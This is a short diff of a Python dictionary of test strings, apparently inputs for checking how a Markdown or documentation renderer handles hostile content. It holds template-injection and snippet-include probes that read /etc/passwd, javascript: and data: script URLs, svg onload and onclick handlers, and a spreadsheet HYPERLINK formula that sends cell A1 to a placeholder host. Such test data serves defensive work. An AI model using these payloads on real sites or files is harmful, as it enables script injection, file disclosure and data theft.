@@ -53,7 +53,7 @@ TEXTS = {
     "template": "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}{# @ #}${@}#{@}<%= @ %>",
     "address": "javascript:@",
     "address of data": "data:text/html;base64,PHNjcmlwdD4=,@",
-    "Markdown": "[x](javascript:@) ![y](" + STRANGE + "/a.png) <javascript:@> `</code><svg onload=@>`",
+    "Markdown": "[x](javascript:@) ![y](a.png) <javascript:@> `</code><svg onload=@>`",
     "Markdown of the theme": ":material-x:{ onclick=@ } [x](y){ onclick=@ } --8<-- '/etc/passwd'",
     "formula": '=HYPERLINK("' + STRANGE + '/?"&A1,"@")',
     "right to left": "user\u200f\u05d0 (@) <b onclick=@>",
